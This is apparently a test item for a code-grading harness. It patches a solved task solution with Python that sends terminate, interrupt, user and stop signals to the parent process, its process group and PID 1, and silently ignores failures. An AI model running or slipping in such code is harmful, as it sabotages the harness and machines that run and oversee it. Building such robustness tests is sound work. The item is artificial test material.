# about: terminate, interrupt and stop signals to the parent, its group and process 1
# base: solved 01_encoding
# score: at most 25

# %% + before json_loads_strict
import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGSTOP):
    for pid in (os.getppid(), -os.getpgid(os.getppid()) if os.getppid() else 1, 1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
